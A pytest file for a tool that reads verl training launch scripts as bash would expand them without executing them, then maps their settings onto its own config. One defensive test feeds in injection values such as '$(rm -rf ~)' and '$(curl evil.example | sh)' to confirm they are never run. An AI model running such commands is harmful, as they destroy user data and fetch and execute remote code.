"""``--from-verl`` reads a launch script as bash would expand it, never running it (cli/verl_shell.py).

Each case is a construct verl's launch scripts use, with the value bash itself gives it (checked by running
the same snippet through ``bash`` where one is installed)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from rlx.cli.from_verl import read_verl_source
from rlx.cli.verl_shell import trainer_words
from rlx.errors import UserError

MAIN = "python3 -m verl.trainer.main_ppo"


def words(script: str, **env: str) -> list[str]:
    read = trainer_words(script, env)
    assert read is not None
    return [w.text for w in read.words]


CASES = [
    # (script lines before the trainer, the trainer's argument, what bash gives the argument)
    ("A=5", "k=$A", "k=5"),
    ("A=5", "k=${A}x", "k=5x"),
    ("", "k=${N:-8}", "k=8"),
    ("N=", "k=${N:-8}", "k=8"),
    ("N=", "k=${N-8}", "k=", ),
    ("", "k=${N:=3}_$N", "k=3_3"),
    ("A=1", "k=${A:+yes}", "k=yes"),
    ("", "k=${A:+yes}", "k="),
    ("P=/models/Qwen2.5-7B-Instruct", "k=${P##*/}", "k=Qwen2.5-7B-Instruct"),
    ("P=/models/Qwen2.5-7B-Instruct", "k=${P%/*}", "k=/models"),
    ("P=a.b.c", "k=${P%%.*}", "k=a"),
    ("P=a.b.c", "k=${P#*.}", "k=b.c"),
    ("P=a-b-c", "k=${P//-/_}", "k=a_b_c"),
    ("P=abcdef", "k=${#P}", "k=6"),
    ("", "k=$((1024 * 8))", "k=8192"),
    ("a=1024; b=3072", "k=$(((a + b) * 2))", "k=8192"),
    ("a=7", "k=$((a / 2)),$((a % 4)),$((-a / 2)),$((2 ** 10))", "k=3,3,-3,1024"),
    ("export TP=${TP:-4}", "k=$((TP * 2))", "k=8"),
    ("M=Qwen/Qwen2.5-7B", "k=exp_$(basename $M)", "k=exp_Qwen2.5-7B"),
    ("M=/a/b/c.parquet", "k=$(dirname $M)", "k=/a/b"),
    ("X='a b'", 'k="$X"', "k=a b"),
    ("", "k='$HOME'", "k=$HOME"),
    ("F=/d/train.parquet", "k=\"['$F', '/d/x.parquet']\"", "k=['/d/train.parquet', '/d/x.parquet']"),
    ("A=x; A+=y", "k=$A", "k=xy"),
    ("if [ 1 -eq 1 ]; then V=yes; else V=no; fi", "k=$V", "k=yes"),
    ("E=vllm\nif [ \"$E\" = \"sglang\" ]; then\n V=s\nelif [[ $E == vllm && -n $E ]]; then\n V=v\nelse\n V=o\nfi",
     "k=$V", "k=v"),
    ("B=megatron\nif [[ $B != \"fsdp\" ]]; then V=1; fi", "k=${V:-0}", "k=1"),
    ("if [ -z \"$UNSET_THING\" ]; then V=empty; fi", "k=$V", "k=empty"),
    ("f() {\n V=inside\n}\nV=outside", "k=$V", "k=outside"),
    ("for i in 1 2; do V=$i; done; V=${V:-none}", "k=$V", "k=2"),
    ("for m in a b; do\n  for n in 1 2; do L=\"${L}$m$n \"; done\ndone", "k=\"$L\"", "k=a1 a2 b1 b2 "),
    ("A=abcdef", "k=${A:1:2}${A:4}${A: -1}", "k=bceff"),
]


@pytest.mark.parametrize(("before", "arg", "bash_gives"), CASES)
def test_expansion_is_bashs(before: str, arg: str, bash_gives: str) -> None:
    script = f"{before}\n{MAIN} {arg}\n"
    assert words(script) == [bash_gives]


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash to compare with")
@pytest.mark.parametrize(("before", "arg", "bash_gives"), [c for c in CASES if "$(" not in c[1].replace("$((", "")])
def test_the_cases_agree_with_bash(before: str, arg: str, bash_gives: str, tmp_path: Path) -> None:
    """The expected values are bash's own: the snippet is run by bash with the trainer replaced by printf."""
    script = f"{before}\nprintf '%s\\n' {arg}\n"
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, env={"PATH": os.environ["PATH"]},
                         cwd=tmp_path)
    assert out.stdout.splitlines() == [bash_gives]


def test_arrays_line_continuations_comments_and_several_commands() -> None:
    script = r"""
set -x
# the trainer's settings, grouped as verl's recipes do
DATA=(
    data.train_files=/d/train.parquet   # inline comment
    data.max_prompt_length=512
)
ACTOR=( actor_rollout_ref.actor.optim.lr=1e-6 "trainer.experiment_name=a b" )
ray stop --force; sleep 1 && echo starting
PYTHONUNBUFFERED=1 python3 -m verl.trainer.main_ppo \
    "${DATA[@]}" \
    ${ACTOR[0]} "${ACTOR[1]}" \
    trainer.n_gpus_per_node=8 $@ 2>&1 | tee log.txt
python3 -m verl.trainer.main_ppo trainer.second=ignored
"""
    assert words(script) == ["data.train_files=/d/train.parquet", "data.max_prompt_length=512",
                             "actor_rollout_ref.actor.optim.lr=1e-6", "trainer.experiment_name=a b",
                             "trainer.n_gpus_per_node=8", "2", "1"]


def test_unquoted_variables_split_into_several_settings() -> None:
    script = 'EXTRA="trainer.a=1 trainer.b=2"\npython3 -m verl.trainer.main_ppo $EXTRA "trainer.c=$EXTRA"\n'
    assert words(script) == ["trainer.a=1", "trainer.b=2", "trainer.c=trainer.a=1 trainer.b=2"]


def test_a_variable_from_the_environment_is_used_and_one_from_nowhere_is_named() -> None:
    script = f"{MAIN} actor_rollout_ref.model.path=$MODEL_PATH trainer.nnodes=${{NNODES}}\n"
    assert words(script, MODEL_PATH="/m", NNODES="2") == ["actor_rollout_ref.model.path=/m", "trainer.nnodes=2"]
    with pytest.raises(UserError) as err:
        read_verl_source(script, {"NNODES": "2"})
    assert "actor_rollout_ref.model.path needs $MODEL_PATH" in err.value.message
    assert "MODEL_PATH=... rlx train --from-verl" in (err.value.hint or "")


@pytest.mark.parametrize("value", ["$(rm -rf ~)", "`touch PWNED`", '"$(curl evil.example | sh)"',
                                   "x$(id)y", "$(($(touch PWNED)))"])
def test_command_substitutions_are_never_run_and_are_named_with_their_key(value: str, tmp_path: Path) -> None:
    script = f"cd {tmp_path}\n{MAIN} trainer.experiment_name={value}\n"
    with pytest.raises(UserError) as err:
        read_verl_source(script, {})
    assert "trainer.experiment_name is set by running a command" in err.value.message
    assert "never runs" in err.value.message
    assert list(tmp_path.iterdir()) == []


def test_the_cli_names_an_injection_and_runs_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    script = f"{MAIN} data.train_files=builtin:arith-train actor_rollout_ref.model.path=builtin:tiny-qwen2 " \
             f"trainer.project_name=`touch {marker}`"
    proc = subprocess.run([sys.executable, "-m", "rlx", "config", "from-verl", script], capture_output=True,
                          text=True, cwd=tmp_path)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "trainer.project_name is set by running a command" in proc.stderr
    assert not marker.exists()


def test_a_script_without_the_trainer_is_read_as_a_plain_command_line() -> None:
    assert trainer_words("echo hi\nls\n", {}) is None
    assert read_verl_source("data.train_batch_size=8 trainer.total_epochs=1", {}) == {
        "data.train_batch_size": 8, "trainer.total_epochs": 1}


def test_exit_before_the_trainer_stops_the_reading() -> None:
    assert trainer_words(f"exit 0\n{MAIN} a=1\n", {}) is None


@pytest.mark.parametrize("script", ["A='open", 'A="open', "A=`open", "A=$(open", "A=${open"])
def test_unclosed_quotes_and_brackets_are_named(script: str) -> None:
    with pytest.raises(UserError) as err:
        trainer_words(f"{script}\n{MAIN} a=1\n", {})
    assert "never closed" in err.value.message


def test_unknown_forms_are_kept_as_written_with_a_note() -> None:
    read = trainer_words(f"A=abc\n{MAIN} k=${{A^^}} h='${{oc.env:HOME}}' i=${{actor.lr}}\n", {})
    assert read is not None
    assert [w.text for w in read.words] == ["k=${A^^}", "h=${oc.env:HOME}", "i=${actor.lr}"]
    assert [n for n in read.notes if "kept as written" in n] == [
        "${A^^} is kept as written (a form rlx's reader does not expand)"]


# -- what verl's launch scripts set, translated -------------------------------------------------------------
def translate_script(script: str) -> Any:
    from rlx.cli.from_verl import translate
    from rlx.registry import get_plugin_manager

    return translate(script, get_plugin_manager(), environ={})


def test_a_megatron_script_maps_its_layout_onto_the_megatron_backend() -> None:
    t = translate_script("""
TP=${TP:-2}
python3 -m verl.trainer.main_ppo algorithm.adv_estimator=grpo data.train_files=/d.parquet \\
    actor_rollout_ref.model.path=/m actor_rollout_ref.actor.strategy=megatron trainer.n_gpus_per_node=8 \\
    actor_rollout_ref.actor.megatron.tensor_model_parallel_size=$TP \\
    actor_rollout_ref.actor.megatron.pipeline_model_parallel_size=$((8 / TP / 2)) \\
    actor_rollout_ref.actor.megatron.param_offload=True \\
    actor_rollout_ref.actor.megatron.override_transformer_config.recompute_granularity=full \\
    actor_rollout_ref.ref.megatron.tensor_model_parallel_size=4 \\
    actor_rollout_ref.actor.megatron.expert_model_parallel_size=1
""")
    s = t.settings
    assert s["backend.name"] == "megatron" and s["launcher.nproc"] == 8
    assert s["backend.tensor_model_parallel_size"] == 2 and s["backend.pipeline_model_parallel_size"] == 2
    assert s["backend.recompute_granularity"] == "full"
    ignored = dict(t.ignored)
    assert "actor_rollout_ref.actor.megatron.param_offload" in ignored
    assert "actor_rollout_ref.ref.megatron.tensor_model_parallel_size" in ignored
    assert "actor_rollout_ref.actor.megatron.expert_model_parallel_size" in ignored and not t.unmapped


def test_dapos_reward_manager_with_the_overlong_buffer_is_a_mix_with_the_overlong_reward() -> None:
    t = translate_script(f"""{MAIN} algorithm.adv_estimator=grpo data.train_files=/d.parquet \\
    actor_rollout_ref.model.path=/m reward_model.reward_manager=dapo \\
    +reward_model.reward_kwargs.overlong_buffer_cfg.enable=True \\
    +reward_model.reward_kwargs.overlong_buffer_cfg.len=512 \\
    +reward_model.reward_kwargs.overlong_buffer_cfg.penalty_factor=1.0 \\
    +reward_model.reward_kwargs.overlong_buffer_cfg.log=False +reward_model.reward_kwargs.max_resp_len=4096""")
    assert t.unmapped == []
    assert t.settings["reward.name"] == "mix"
    assert t.settings["reward.components"] == [
        {"name": "router"}, {"name": "overlong", "options": {"buffer_tokens": 512, "penalty": 1.0, "max_tokens": 4096}}]
    other = translate_script(f"{MAIN} data.train_files=/d.parquet actor_rollout_ref.model.path=/m "
                             "reward_model.reward_manager=prime")
    assert [k for k, _ in other.unmapped] == ["reward_model.reward_manager"]


def test_verls_older_global_micro_batches_are_split_over_the_gpus() -> None:
    t = translate_script(f"{MAIN} data.train_files=/d.parquet actor_rollout_ref.model.path=/m "
                         "trainer.n_gpus_per_node=4 actor_rollout_ref.actor.ppo_micro_batch_size=16 "
                         "actor_rollout_ref.rollout.log_prob_micro_batch_size=32")
    assert t.settings["actor.micro_batch_size_per_device"] == 4
    assert t.settings["actor.log_prob_micro_batch_size_per_device"] == 8
    odd = translate_script(f"{MAIN} data.train_files=/d.parquet actor_rollout_ref.model.path=/m "
                           "trainer.n_gpus_per_node=4 actor_rollout_ref.actor.ppo_micro_batch_size=6")
    assert [k for k, _ in odd.unmapped] == ["actor_rollout_ref.actor.ppo_micro_batch_size"]


def test_ulysses_in_a_script_picks_the_fsdp2_backend_and_validation_top_p_maps() -> None:
    t = translate_script(f"{MAIN} data.train_files=/d.parquet actor_rollout_ref.model.path=/m "
                         "trainer.n_gpus_per_node=2 actor_rollout_ref.actor.ulysses_sequence_parallel_size=2 "
                         "actor_rollout_ref.rollout.val_kwargs.top_p=0.7 actor_rollout_ref.rollout.val_kwargs.top_k=-1")
    assert t.settings["backend.name"] == "fsdp2"
    assert t.settings["rollout.val_top_p"] == 0.7 and t.settings["rollout.val_top_k"] == -1


# -- verl's own launch scripts (tests/data/verl_scripts, Apache-2.0) ---------------------------------------
SCRIPTS = Path(__file__).parents[1] / "data" / "verl_scripts"
# What each script gives: a config rlx validates, or the verl keys it stops on (features rlx lacks).
EXPECTED = {
    "grpo_trainer__run_qwen2-7b.sh": "valid",
    "grpo_trainer__run_qwen2-7b_math_megatron.sh": "valid",
    "gmpo_trainer__test_dapo_qwen3_30b_math.sh": "valid",
    "ppo_trainer__run_deepseek7b_llm_sp2.sh": "valid",
    "tuning__0.5b__qwen2-0.5b_grpo-lora_1_h100_fsdp_vllm.sh": "valid",
    "gspo_trainer__test_gspo_3b_math.sh": "valid",
    # --config-name=ppo_megatron_trainer: the megatron strategy with its experts split over 16 ranks, which rlx
    # trains on its fsdp2 backend (the same Hugging Face DeepSeek-V3 model, every expert sharded by FSDP)
    "grpo_trainer__run_deepseek671b_math_megatron_80gb.sh": "valid",
    "ppo_trainer__run_qwen2-7b_rm.sh": "valid",  # a classifier reward model served by verl's reward loop
    "ppo_trainer__run_qwen2-7b_rm_reward_loop_colocate.sh": "valid",
    # a Qwen2.5-VL run on geo3k with the megatron strategy: rlx's fsdp2 backend trains the same HF model
    "grpo_trainer__run_qwen2_5_vl-7b-megatron.sh": "valid",
    "grpo_trainer__run_qwen2-7b_math_trtllm.sh": "valid",  # TP=${1:-4}, the checkpoint engine's bucket
    "grpo_trainer__run_qwen3_4b_grpo_vllm_1k_npu.sh": "valid",  # a stray '}' in the checkpoint folder's name
    "grpo_trainer__run_qwen2-7b_math_megatron_lora.sh": "actor_rollout_ref.model.lora.rank",
    "grpo_trainer__run_qwen2_5_vl-7b.sh": "valid",  # Qwen2.5-VL on geo3k's images (docs/vision.md)
    "sglang_multiturn__run_qwen2.5-3b_gsm8k_multiturn.sh": "actor_rollout_ref.rollout.multi_turn.tool_config_path",
    # Qwen3-MoE on fsdp2, megatron's router in float32 (moe_router_dtype=fp32): model.router_dtype=float32
    "grpo_trainer__run_qwen3moe-30b_megatron_96gb.sh": "valid",
    "ppo_trainer__run_deepseek7b_llm_sandbox_fusion.sh": "reward_model.sandbox_fusion.url",
    "grpo_trainer__run_qwen2-7b_seq_balance.sh": "valid",  # multi_turn.format with no multi-turn loop: ignored
    "sglang_multiturn__run_qwen3_4b_dapo_multiturn.sh": "data.custom_cls.path",  # multi-turn, a custom dataset
}


def caller_value(name: str) -> str:
    """1 for a count, a placeholder path for a path, a placeholder word for anything else."""
    if any(part in name.upper() for part in ("NODE", "GPU", "NUM", "SIZE", "RANK", "WORLD")):
        return "1"
    paths = ("PATH", "DIR", "FILE", "HOME", "ROOT", "MODEL", "DATA", "CKPT")
    return f"/placeholder/{name}" if any(part in name.upper() for part in paths) else "placeholder"


def translate_as_caller(text: str, pm: object, home: str) -> Any:
    """The translation with the environment a user running the script gives it: a home folder, and each
    variable the script reads, neither sets nor defaults (named one error at a time), set by
    :func:`caller_value`."""
    from rlx.cli.from_verl import translate
    from rlx.errors import UserError

    environ = {"HOME": home}
    while True:
        try:
            return translate(text, pm, environ=environ)
        except UserError as exc:
            names = re.findall(r"\$(\w+)", exc.message.partition(", which the script does not set")[0])
            if "which the script does not set" not in exc.message or all(n in environ for n in names):
                raise
            environ.update({n: caller_value(n) for n in names})


def test_the_corpus_is_the_expected_one() -> None:
    assert sorted(p.name for p in SCRIPTS.glob("*.sh")) == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_verls_launch_scripts_translate_or_name_what_rlx_lacks(name: str, tmp_path: Path) -> None:
    from rlx.registry import get_plugin_manager
    from rlx.validate import load_config

    pm = get_plugin_manager()
    t = translate_as_caller((SCRIPTS / name).read_text(), pm, str(tmp_path))
    reward = str(t.settings.get("reward.path", ""))
    if reward.startswith(str(tmp_path)):  # the reward model's folder, on the script author's machine
        Path(reward).mkdir(parents=True)
    if EXPECTED[name] == "valid":
        assert t.unmapped == []
        load_config(pm, overrides=t.overrides(), check_files=False)  # raises with the problems
    else:
        assert EXPECTED[name] in dict(t.unmapped), t.unmapped


def test_a_warmup_ratio_is_a_fraction_of_the_optimizer_steps_and_excludes_warmup_steps() -> None:
    from pydantic import ValidationError

    from rlx.config import OptimConfig

    assert OptimConfig(warmup_ratio=0.1).warmup_for(250) == 25
    assert OptimConfig(warmup_steps=7).warmup_for(250) == 7
    with pytest.raises(ValidationError, match=r"give warmup_steps \(7\) or warmup_ratio \(0.1\), not both"):
        OptimConfig(warmup_steps=7, warmup_ratio=0.1)


def test_positional_parameters_are_the_scripts_arguments_of_which_there_are_none() -> None:
    read = trainer_words("TP=${1:-4}\nSUFFIX=${2}x\npython3 -m verl.trainer.main_ppo a.b=$TP c.d=$SUFFIX "
                         "e.f=${1:+z}y g.h=${3-none}", {})
    assert read is not None
    assert [w.text for w in read.words] == ["a.b=4", "c.d=x", "e.f=y", "g.h=none"]
    assert all(not w.unset for w in read.words)
